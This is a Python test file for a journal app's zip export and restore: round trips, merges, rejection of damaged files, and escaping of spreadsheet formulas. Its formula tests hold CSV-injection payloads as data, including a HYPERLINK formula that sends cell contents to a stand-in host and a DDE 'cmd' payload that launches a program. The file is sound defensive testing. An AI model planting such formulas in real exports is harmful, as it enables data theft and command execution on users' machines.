"""The journal as a zip and back: exact round trips, merges without duplicates, refusals that touch nothing."""

from __future__ import annotations

import csv
import io
import json
import zipfile
from datetime import date, datetime, timedelta

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from analytics import storage
from analytics.dates import DateRange
from analytics.entries import LocalTime, clean_text
from analytics.export.journal_zip import (
    escape_text,
    export_file_name,
    export_journal,
    unescape_text,
    write_export,
)
from analytics.export.restoring import RestoreError, plan_restore, read_export, restore
from analytics.storage.export_queries import EXPORT_TABLES
from analytics.storage.schema import ENTRY_TABLES
from sample_data import load_sample
from tests.conftest import SAMPLE_TODAY

TABLES = EXPORT_TABLES
DAY = {
    "check_ins": "CAST(local_time AS DATE)",
    "triggers": "CAST(local_time AS DATE)",
    "practice_log": "CAST(local_time AS DATE)",
    "reflections": "day",
    "sessions": "day",
    "measure_responses": "day",
}
KEY = {"trigger_categories": "name", "settings": "key"}


def snapshot(con: storage.Connection) -> dict[str, list[tuple]]:
    """Every row of every table, every column, in a fixed order (independent of the code under test)."""
    return {
        table: con.execute(f"SELECT * FROM {table} ORDER BY {KEY.get(table, 'id')}").fetchall()
        for table in TABLES
    }


def count(con: storage.Connection, table: str) -> int:
    return con.execute(f"SELECT count(*) FROM {table}").fetchone()[0]


@pytest.fixture
def source():
    """The sample year, plus entries whose values are awkward for CSV: quotes, commas, newlines,
    emoji, NULLs, time-zone offsets, microseconds, a rest day, a practice of one's own, a
    session booked ahead, an imported entry with a source key, questionnaires (one with PHQ-9
    item 9 above 0, one imported with a source key) and both settings."""
    con = storage.connect()
    load_sample(con, today=SAMPLE_TODAY)
    storage.add_check_in(
        con,
        when=LocalTime(datetime(2026, 3, 29, 1, 59, 59, 123456), 330),
        wellbeing=4.25,
        anxiety=None,
        energy=0.1,
        emotions=["tired", "hopeful, a bit"],
        note='She said "fine", then,\nnothing.\tTab; 🌱 ünïcode',
    )
    storage.add_trigger(
        con,
        when=datetime(2026, 6, 1, 18, 0),
        category="Work",
        what_happened='A, b\n"c"',
        intensity=7,
        response="",
        response_kind="old_pattern",
        helped=None,
    )
    own = storage.add_practice(con, "Cold water, then a walk", "Mine, not from the list", 4)
    storage.update_practice(con, own, active=False)
    storage.log_practice(
        con,
        when=datetime(2026, 7, 2, 7, 15),
        practice="Cold water, then a walk",
        minutes=None,
        amount=2.5,
        first_time=True,
        status="rest",
    )
    storage.add_session(con, day=SAMPLE_TODAY + timedelta(days=20), note="Booked ahead")
    storage.add_entry(
        con,
        "check_ins",
        when=datetime(2026, 2, 2, 9, 0),
        wellbeing=6,
        source="daylio",
        source_key="2026-02-02 09:00|good",
    )
    storage.add_trigger_category(con, "Neighbours, noise")
    storage.set_trigger_category_active(con, "Money", False)
    storage.add_measure_response(con, "phq9", [2, 1, 3, 0, 1, 2, 0, 1, 1], date(2026, 4, 2))
    storage.add_measure_response(con, "gad7", [0, 0, 1, 0, 0, 0, 0], date(2026, 4, 2))
    storage.add_measure_response(
        con, "who5", [0, 5, 2, 3, 1], date(2026, 5, 14), source="paper", source_key="form 7"
    )
    storage.set_measures_in_use(con, ["phq9", "who5"])
    storage.set_setting(con, "crisis_region", "uk-ie")
    yield con
    con.close()


@pytest.fixture
def exported(source) -> bytes:
    return export_journal(source)


def test_export_then_restore_into_an_empty_journal_gives_identical_rows(source, exported, journal):
    before = snapshot(source)
    plan = restore(journal, exported)

    assert plan.mode == "replace"
    after = snapshot(journal)
    for table in TABLES:
        assert after[table] == before[table], table
    assert sum(len(rows) for rows in before.values()) > 1800


def test_restoring_twice_adds_nothing(exported, journal):
    restore(journal, exported)
    once = snapshot(journal)

    plan = restore(journal, exported)

    assert plan.mode == "merge"
    assert plan.adds_nothing
    assert all(change.already_there == change.in_file for change in plan.changes)
    assert snapshot(journal) == once


def test_export_holds_one_csv_per_table_the_same_rows_as_json_and_a_manifest(source, exported):
    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        names = set(archive.namelist())
        assert names == {f"{t}.csv" for t in TABLES} | {"journal.json", "manifest.json"}
        manifest = json.loads(archive.read("manifest.json"))
        document = json.loads(archive.read("journal.json"))
        for table in TABLES:
            rows = list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode("utf-8"))))
            assert (
                len(rows)
                == count(source, table)
                == manifest["rows"][table]
                == len(document["tables"][table])
            )
            by_json = document["tables"][table]
            for from_csv, from_json in zip(rows, by_json, strict=True):
                assert from_csv.keys() == from_json.keys()
                for column, text in from_csv.items():
                    value = from_json[column]
                    expected = (
                        ""
                        if value is None
                        else (
                            "true"
                            if value is True
                            else "false"
                            if value is False
                            # text that looks like a formula carries one added ' in the CSV
                            else escape_text(value)
                            if isinstance(value, str)
                            else str(value)
                        )
                    )
                    assert text == expected, (table, column)
    assert manifest["format"] == "between-sessions-export"
    assert manifest["schema_version"] == storage.schema_version(source)
    assert manifest["app_version"]
    assert manifest["range"] is None
    assert datetime.fromisoformat(manifest["created_at"]).tzinfo is not None
    assert document["manifest"] == manifest


def test_a_range_export_holds_only_the_entries_of_the_range_and_both_catalogs(source, journal):
    chosen = DateRange(date(2026, 3, 1), date(2026, 5, 31))
    data = export_journal(source, chosen)

    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    assert manifest["range"] == {"start": "2026-03-01", "end": "2026-05-31"}
    plan = restore(journal, data)
    for table in ENTRY_TABLES:
        outside = journal.execute(
            f"SELECT count(*) FROM {table} WHERE {DAY[table]} NOT BETWEEN ? AND ?",
            [chosen.start, chosen.end],
        ).fetchone()[0]
        inside_source = source.execute(
            f"SELECT count(*) FROM {table} WHERE {DAY[table]} BETWEEN ? AND ?",
            [chosen.start, chosen.end],
        ).fetchone()[0]
        assert outside == 0, table
        assert count(journal, table) == inside_source == manifest["rows"][table], table
        assert inside_source > 0, table
    assert count(journal, "practices") == count(source, "practices")
    assert count(journal, "trigger_categories") == count(source, "trigger_categories")
    assert plan.entries_to_add == sum(manifest["rows"][t] for t in ENTRY_TABLES)


def test_the_file_name_carries_the_dates():
    assert (
        export_file_name(DateRange(date(2026, 1, 1), date(2026, 3, 31)))
        == "between-sessions-2026-01-01-to-2026-03-31.zip"
    )
    assert export_file_name(None, today=date(2026, 11, 24)) == "between-sessions-all-2026-11-24.zip"


def test_restoring_a_range_then_the_whole_journal_adds_only_what_was_missing(
    source, exported, journal
):
    restore(journal, export_journal(source, DateRange(date(2026, 3, 1), date(2026, 5, 31))))
    had = {t: count(journal, t) for t in ENTRY_TABLES}

    plan = restore(journal, exported)

    for change in plan.changes:
        if change.table in ENTRY_TABLES:
            assert change.already_there == had[change.table]
            assert change.to_add == count(source, change.table) - had[change.table]
    assert snapshot(journal) == snapshot(source)


def test_a_merge_matches_practices_by_name_and_keeps_the_journal_own_entries(
    source, exported, journal
):
    """The target journal has the starter practices under other ids and entries of its own."""
    own_id = storage.add_check_in(
        journal, when=datetime(2026, 1, 5, 8, 0), wellbeing=5, note="mine"
    )
    storage.log_practice(
        journal, when=datetime(2026, 1, 5, 8, 5), practice="Breathing or grounding"
    )
    target_practices = dict(journal.execute("SELECT name, id FROM practices").fetchall())

    plan = plan_restore(journal, read_export(exported, target=journal))
    assert plan.mode == "merge"
    assert count(journal, "check_ins") == 1  # a plan writes nothing

    restore(journal, exported)

    assert storage.get_entry(journal, "check_ins", own_id)["note"] == "mine"
    assert count(journal, "check_ins") == count(source, "check_ins") + 1
    names = [row[0] for row in journal.execute("SELECT name FROM practices").fetchall()]
    assert (
        len(names) == len(set(names)) == len(target_practices) + 1
    )  # only "Cold water, then a walk" is new
    for name, practice_id in target_practices.items():
        assert (
            journal.execute("SELECT id FROM practices WHERE name = ?", [name]).fetchone()[0]
            == practice_id
        )
    dangling = journal.execute(
        "SELECT count(*) FROM practice_log l LEFT JOIN practices p ON p.id = l.practice_id WHERE p.id IS NULL"
    ).fetchone()[0]
    assert dangling == 0
    by_name_source = source.execute(
        "SELECT p.name, count(*) FROM practice_log l JOIN practices p ON p.id = l.practice_id GROUP BY 1 ORDER BY 1"
    ).fetchall()
    by_name_target = dict(
        journal.execute(
            "SELECT p.name, count(*) FROM practice_log l JOIN practices p ON p.id = l.practice_id GROUP BY 1"
        ).fetchall()
    )
    for name, n in by_name_source:
        assert by_name_target[name] == n + (1 if name == "Breathing or grounding" else 0)
    categories = [
        row[0]
        for row in journal.execute(
            "SELECT name FROM trigger_categories ORDER BY position"
        ).fetchall()
    ]
    assert categories[-1] == "Neighbours, noise" and len(categories) == len(set(categories))


def test_a_zip_of_only_journal_json_restores_the_same_rows(source, exported, journal):
    buffer = io.BytesIO()
    with (
        zipfile.ZipFile(io.BytesIO(exported)) as archive,
        zipfile.ZipFile(buffer, "w") as json_only,
    ):
        for name in ("manifest.json", "journal.json"):
            json_only.writestr(name, archive.read(name))

    restore(journal, buffer.getvalue())

    assert snapshot(journal) == snapshot(source)


def test_write_export_writes_the_zip_file(source, tmp_path, journal):
    path = write_export(source, tmp_path / "out" / "journal.zip")

    assert path.exists() and not (tmp_path / "out" / "journal.zip.partial").exists()
    restore(journal, path)
    assert snapshot(journal) == snapshot(source)


# --- refusals ----------------------------------------------------------------------------


def rezip(data: bytes, *, drop: str | None = None, replace: dict[str, str] | None = None) -> bytes:
    """The export with one file left out or some files' text replaced."""
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(buffer, "w") as out:
        for name in archive.namelist():
            if name == drop:
                continue
            text = (replace or {}).get(name)
            out.writestr(name, text if text is not None else archive.read(name))
    return buffer.getvalue()


def edit_csv(data: bytes, table: str, row: int, column: str, value: str) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        rows = list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode())))
    rows[row - 1][column] = value
    out = io.StringIO()
    writer = csv.DictWriter(out, fieldnames=list(rows[0]), lineterminator="\n")
    writer.writeheader()
    writer.writerows(rows)
    return rezip(data, replace={f"{table}.csv": out.getvalue()})


def manifest_with(data: bytes, **changes) -> bytes:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    return rezip(data, replace={"manifest.json": json.dumps({**manifest, **changes})})


BROKEN = {
    "not a zip": (lambda d: b"these are not the bytes of a zip", ["zip"]),
    "cut short": (lambda d: d[: len(d) // 2], ["zip"]),
    "no manifest": (lambda d: rezip(d, drop="manifest.json"), ["manifest.json", "missing"]),
    "manifest of another program": (
        lambda d: manifest_with(d, format="something-else"),
        ["manifest.json"],
    ),
    "from a newer app": (lambda d: manifest_with(d, schema_version=99), ["manifest.json", "newer"]),
    "a table missing": (lambda d: rezip(d, drop="triggers.csv"), ["triggers.csv", "missing"]),
    "a word where a rating goes": (
        lambda d: edit_csv(d, "check_ins", 3, "wellbeing", "lots"),
        ["check_ins.csv, row 4, wellbeing", "'lots'"],
    ),
    "a rating off the scale": (
        lambda d: edit_csv(d, "check_ins", 5, "wellbeing", "11"),
        ["check_ins.csv, row 6, wellbeing", "outside the scale"],
    ),
    "a broken date": (
        lambda d: edit_csv(d, "sessions", 2, "day", "2026-02-30"),
        ["sessions.csv, row 3, day"],
    ),
    "an unknown response kind": (
        lambda d: edit_csv(d, "triggers", 4, "response_kind", "shrug"),
        ["triggers.csv, row 5, response_kind"],
    ),
    "a log row for a practice not in the file": (
        lambda d: edit_csv(d, "practice_log", 7, "practice_id", "no-such-practice"),
        ["practice_log.csv, row 8, practice_id"],
    ),
    "an id twice": (
        lambda d: edit_csv(
            d, "reflections", 2, "id", read_export(d).tables["reflections"][0]["id"]
        ),
        ["reflections.csv, row 3, id", "twice"],
    ),
    "an empty id": (lambda d: edit_csv(d, "check_ins", 1, "id", ""), ["check_ins.csv, row 2, id"]),
    "an unknown column": (
        lambda d: rezip(d, replace={"sessions.csv": "id,day,mood\nx,2026-01-01,3\n"}),
        ["sessions.csv", "mood", "not a column"],
    ),
    "a ragged row": (
        lambda d: rezip(d, replace={"sessions.csv": "id,day,note\nx,2026-01-01\n"}),
        ["sessions.csv, row 2", "cells"],
    ),
    "a row of one cell": (
        # Said "has 1 cells" before its words were built in analytics/words/export_zip.py.
        lambda d: rezip(d, replace={"sessions.csv": "id,day,note\nx\n"}),
        ["sessions.csv, row 2: has 1 cell where the header has 3"],
    ),
    "not utf-8": (lambda d: _latin1_sessions(d), ["sessions.csv", "UTF-8"]),
}


def _latin1_sessions(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(buffer, "w") as out:
        for name in archive.namelist():
            out.writestr(
                name,
                "id,day,note\nx,2026-01-01,caf\xe9\n".encode("latin-1")
                if name == "sessions.csv"
                else archive.read(name),
            )
    return buffer.getvalue()


@pytest.mark.parametrize("case", list(BROKEN))
def test_a_damaged_or_wrong_zip_is_refused_naming_where_and_the_journal_is_untouched(
    case, exported, journal
):
    storage.add_check_in(journal, when=datetime(2026, 1, 5, 8, 0), wellbeing=5, note="mine")
    before = snapshot(journal)
    damage, expected = BROKEN[case]

    with pytest.raises(RestoreError) as refused:
        restore(journal, damage(exported))

    message = str(refused.value)
    assert "not changed" in message
    for fragment in expected:
        assert fragment in message, (fragment, message)
    assert refused.value.problems
    assert snapshot(journal) == before


def test_a_damaged_zip_is_refused_in_an_empty_journal_too_and_the_starter_lists_stay(
    exported, journal
):
    before = snapshot(journal)
    with pytest.raises(RestoreError):
        restore(journal, edit_csv(exported, "check_ins", 500, "wellbeing", "-1"))
    assert snapshot(journal) == before


def test_a_problem_names_the_row_a_spreadsheet_shows_with_the_header_as_row_1(exported):
    """As the importers do (`analytics.importers`): the row named is the line the bad cell is on
    when the CSV is opened in a spreadsheet, so the first row of data is row 2 (issue 24)."""
    damaged = edit_csv(exported, "check_ins", 1, "wellbeing", "lots")
    with zipfile.ZipFile(io.BytesIO(damaged)) as archive:
        lines = archive.read("check_ins.csv").decode().splitlines()
    shown_at = next(n for n, line in enumerate(lines, start=1) if ",lots," in f"{line},")
    with pytest.raises(RestoreError) as refused:
        read_export(damaged)
    assert [(p.file, p.row, p.field) for p in refused.value.problems] == [
        ("check_ins.csv", shown_at, "wellbeing")
    ]
    assert shown_at == 2


def test_every_problem_is_listed_not_only_the_first(exported):
    damaged = edit_csv(
        edit_csv(exported, "check_ins", 2, "wellbeing", "x"), "triggers", 3, "intensity", ""
    )
    with pytest.raises(RestoreError) as refused:
        read_export(damaged)
    places = {(p.file, p.row, p.field) for p in refused.value.problems}
    assert places == {("check_ins.csv", 3, "wellbeing"), ("triggers.csv", 4, "intensity")}


def test_a_failure_while_writing_rolls_everything_back(exported, journal, monkeypatch):
    from analytics.export import restoring as data_restore

    calls = []

    def fail_on_third(con, kind, rows):
        calls.append(kind)
        if len(calls) == 3:
            raise RuntimeError("disk full")
        return storage.insert_rows(con, kind, rows)

    monkeypatch.setattr(data_restore, "insert_rows", fail_on_third)
    storage.add_check_in(journal, when=datetime(2026, 1, 5, 8, 0), wellbeing=5)
    before = snapshot(journal)

    with pytest.raises(RuntimeError):
        restore(journal, exported)

    assert len(calls) == 3
    assert snapshot(journal) == before


# --- property: any text a person can type survives the trip ---------------------------

texts = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",), blacklist_characters="\x00"), max_size=60
)


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(
    notes=st.lists(texts, min_size=1, max_size=4),
    ratings=st.lists(st.floats(0, 10, allow_nan=False), min_size=4, max_size=4),
    offset=st.integers(-14 * 60, 14 * 60),
)
def test_any_note_rating_and_offset_round_trips_exactly(notes, ratings, offset):
    source = storage.connect()
    target = storage.connect()
    try:
        for i, note in enumerate(notes):
            storage.add_check_in(
                source,
                when=LocalTime(datetime(2025, 5, 1 + i, 21, 30, 0, 999), offset),
                wellbeing=ratings[i],
                energy=ratings[-1 - i],
                note=note,
            )
            if clean_text(note, "free_text"):  # what the validator keeps (control characters go)
                storage.add_reflection(
                    source, day=date(2025, 5, 1 + i), free_text=note, bring_next=note[::-1]
                )
        restore(target, export_journal(source))
        assert snapshot(target) == snapshot(source)
    finally:
        source.close()
        target.close()


# --- spreadsheet-safe CSV: formula-like text is escaped in the CSV, exact everywhere else ----

FORMULAS = (
    '=HYPERLINK("http://x"&A1)',
    "=cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "'=already quoted by me",
    "''+two apostrophes",
    "'just an apostrophe",
    "a = b, not a formula",
)


@pytest.fixture
def formulas():
    """A journal whose text, typed by a person, looks like spreadsheet formulas, beside real
    negative numbers (an amount of -1.5 and an offset of -300 minutes) that must stay numbers."""
    con = storage.connect()
    for i, text in enumerate(FORMULAS):
        storage.add_check_in(
            con, when=LocalTime(datetime(2026, 1, 1 + i, 9, 0), -300), wellbeing=5, note=text
        )
        storage.add_reflection(con, day=date(2026, 1, 1 + i), free_text=text, bring_next=text)
    storage.add_trigger_category(con, "@SUM(1+1)")
    storage.add_trigger(
        con,
        when=datetime(2026, 2, 1, 18, 0),
        category="@SUM(1+1)",
        what_happened="=1+1",
        intensity=3,
        response="-2+3",
        response_kind="other",
    )
    storage.add_practice(con, "+1 walk", "=cmd|' /C calc'!A0", 3)
    storage.log_practice(con, when=datetime(2026, 2, 2, 7, 0), practice="+1 walk", amount=-1.5)
    yield con
    con.close()


def csv_rows(data: bytes, table: str) -> list[dict[str, str]]:
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        return list(csv.DictReader(io.StringIO(archive.read(f"{table}.csv").decode("utf-8"))))


def test_formula_like_text_is_written_to_the_csv_with_one_apostrophe_in_front(formulas):
    exported = export_journal(formulas)

    notes = [row["note"] for row in csv_rows(exported, "check_ins")]
    expected = [
        text if text[0] in "'a" and text[1] not in "'=+-@" else "'" + text for text in FORMULAS
    ]
    assert notes == expected
    assert notes[0] == '\'=HYPERLINK("http://x"&A1)'
    assert notes[5] == "''=already quoted by me" and notes[6] == "'''+two apostrophes"
    assert notes[7] == "'just an apostrophe" and notes[8] == "a = b, not a formula"
    [trigger] = csv_rows(exported, "triggers")
    assert (trigger["category"], trigger["what_happened"], trigger["response"]) == (
        "'@SUM(1+1)",
        "'=1+1",
        "'-2+3",
    )
    practice = next(r for r in csv_rows(exported, "practices") if r["name"].endswith("walk"))
    assert practice["name"] == "'+1 walk" and practice["description"] == "'=cmd|' /C calc'!A0"
    assert "'@SUM(1+1)" in [r["name"] for r in csv_rows(exported, "trigger_categories")]
    # Numbers are numbers: decided by the column's type, not by the text.
    [log] = csv_rows(exported, "practice_log")
    assert log["amount"] == "-1.5"
    assert {r["utc_offset_min"] for r in csv_rows(exported, "check_ins")} == {"-300"}
    # No text cell of any CSV starts a formula.
    for table in TABLES:
        for row in csv_rows(exported, table):
            for column, cell in row.items():
                if column not in ("amount", "utc_offset_min", "wellbeing", "anxiety", "energy"):
                    assert cell[:1] not in ("=", "+", "-", "@", "\t", "\r"), (table, column, cell)


def test_journal_json_keeps_the_text_exact_and_the_manifest_names_the_escape(formulas):
    exported = export_journal(formulas)

    with zipfile.ZipFile(io.BytesIO(exported)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        document = json.loads(archive.read("journal.json"))
    assert manifest["csv_text_escape"] == "leading-apostrophe"
    assert [row["note"] for row in document["tables"]["check_ins"]] == list(FORMULAS)
    assert document["tables"]["practice_log"][0]["amount"] == -1.5


def test_formula_like_text_restores_exactly_from_the_csv_files(formulas, journal):
    restore(journal, export_journal(formulas))

    assert snapshot(journal) == snapshot(formulas)
    notes = [
        r[0] for r in journal.execute("SELECT note FROM check_ins ORDER BY local_time").fetchall()
    ]
    assert notes == list(FORMULAS)


def json_only(data: bytes) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(data)) as archive, zipfile.ZipFile(buffer, "w") as out:
        for name in ("manifest.json", "journal.json"):
            out.writestr(name, archive.read(name))
    return buffer.getvalue()


def test_formula_like_text_restores_exactly_from_journal_json(formulas, journal):
    restore(journal, json_only(export_journal(formulas)))

    assert snapshot(journal) == snapshot(formulas)


def test_an_older_export_without_the_escape_mark_restores_its_text_unchanged(journal):
    """Before the escape, a note typed as `'=x` was written as `'=x`: it must not lose its `'`."""
    con = storage.connect()
    storage.add_check_in(con, when=datetime(2026, 1, 1, 9, 0), wellbeing=5, note="'=x")
    storage.add_check_in(con, when=datetime(2026, 1, 2, 9, 0), wellbeing=5, note="=y")
    data = export_journal(con)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
        text = archive.read("check_ins.csv").decode("utf-8")
    del manifest["csv_text_escape"]
    old_csv = text.replace("''=x", "'=x").replace("'=y", "=y")
    assert "'=x" in old_csv and "\n=y" not in old_csv  # as the old export wrote them
    old = rezip(data, replace={"manifest.json": json.dumps(manifest), "check_ins.csv": old_csv})

    restore(journal, old)

    notes = [
        r[0] for r in journal.execute("SELECT note FROM check_ins ORDER BY local_time").fetchall()
    ]
    assert notes == ["'=x", "=y"]
    con.close()


def test_an_export_naming_an_unknown_escape_is_refused(formulas, journal):
    data = export_journal(formulas)
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        manifest = json.loads(archive.read("manifest.json"))
    manifest["csv_text_escape"] = "something-newer"

    with pytest.raises(RestoreError, match="csv_text_escape|CSV escape"):
        read_export(rezip(data, replace={"manifest.json": json.dumps(manifest)}))
    assert count(journal, "check_ins") == 0


formula_texts = st.builds(
    lambda quotes, lead, rest: "'" * quotes + lead + rest,
    st.integers(0, 3),
    st.sampled_from(["", "=", "+", "-", "@", "\t", "\r", "'", "a", " "]),
    st.text(alphabet=st.characters(blacklist_categories=("Cs",)), max_size=20),
)


@given(st.one_of(formula_texts, st.text()))
def test_unescape_gives_back_exactly_what_escape_was_given(text):
    escaped = escape_text(text)

    assert unescape_text(escaped) == text
    assert escaped[:1] not in ("=", "+", "-", "@", "\t", "\r")


@settings(deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(notes=st.lists(formula_texts, min_size=1, max_size=4), through_json=st.booleans())
def test_any_formula_like_text_round_trips_exactly_through_csv_or_json(notes, through_json):
    source = storage.connect()
    target = storage.connect()
    try:
        for i, note in enumerate(notes):
            storage.add_check_in(
                source, when=datetime(2025, 5, 1 + i, 21, 30), wellbeing=5, note=note
            )
            if clean_text(note, "free_text"):
                storage.add_reflection(
                    source, day=date(2025, 5, 1 + i), free_text=note, bring_next="-" + note
                )
        data = export_journal(source)
        restore(target, json_only(data) if through_json else data)
        assert snapshot(target) == snapshot(source)
    finally:
        source.close()
        target.close()


# --- the command line -------------------------------------------------------------------


def test_between_export_and_restore_round_trip_through_files(source, tmp_path, capsys):
    from analytics.cli import main

    db = tmp_path / "source.duckdb"
    exported_to = tmp_path / "journal.zip"
    restored = tmp_path / "restored.duckdb"
    (tmp_path / "r.zip").write_bytes(export_journal(source))
    assert main(["restore", "--db", str(db), str(tmp_path / "r.zip")]) == 0

    assert main(["export", "--db", str(db), "--out", str(exported_to)]) == 0
    assert main(["restore", "--db", str(restored), "--dry-run", str(exported_to)]) == 0
    assert storage.is_empty(storage.connect(restored)) is True
    assert main(["restore", "--db", str(restored), str(exported_to)]) == 0
    assert main(["restore", "--db", str(restored), str(exported_to)]) == 0

    out = capsys.readouterr()
    assert "Added 0 entries" in out.err
    first, second = (storage.connect(path, read_only=True) for path in (db, restored))
    assert snapshot(first) == snapshot(second) == snapshot(source)


def test_between_export_with_from_and_to_holds_only_that_range(source, tmp_path):
    from analytics.cli import main

    db = tmp_path / "source.duckdb"
    (tmp_path / "all.zip").write_bytes(export_journal(source))
    main(["restore", "--db", str(db), str(tmp_path / "all.zip")])

    assert (
        main(
            [
                "export",
                "--db",
                str(db),
                "--out",
                str(tmp_path / "march.zip"),
                "--from",
                "2026-03-01",
                "--to",
                "2026-03-31",
            ]
        )
        == 0
    )

    export = read_export(tmp_path / "march.zip")
    assert export.manifest["range"] == {"start": "2026-03-01", "end": "2026-03-31"}
    days = [row["local_time"].date() for row in export.tables["check_ins"]] + [
        row["day"] for row in export.tables["sessions"]
    ]
    assert days and all(date(2026, 3, 1) <= day <= date(2026, 3, 31) for day in days)


def test_between_restore_refuses_a_damaged_zip_with_exit_code_2(tmp_path, capsys):
    from analytics.cli import main

    bad = tmp_path / "bad.zip"
    bad.write_bytes(b"PK\x03\x04 not really")
    db = tmp_path / "j.duckdb"

    assert main(["restore", "--db", str(db), str(bad)]) == 2
    assert "bad.zip" in capsys.readouterr().err
    assert storage.is_empty(storage.connect(db))


@pytest.mark.parametrize("text", ["＝1+1", "＋1", "－1+1", "＠SUM(1)", "'＝typed"])
def test_fullwidth_formula_signs_are_escaped_too_and_come_back_exactly(text, journal):
    """East Asian spreadsheets read the fullwidth ＝ ＋ － ＠ as formula signs."""
    source = storage.connect()
    storage.add_check_in(source, when=datetime(2026, 1, 1, 9, 0), wellbeing=5, note=text)
    exported = export_journal(source)
    [row] = csv_rows(exported, "check_ins")
    assert row["note"] == "'" + text
    restore(journal, exported)
    assert journal.execute("SELECT note FROM check_ins").fetchone()[0] == text
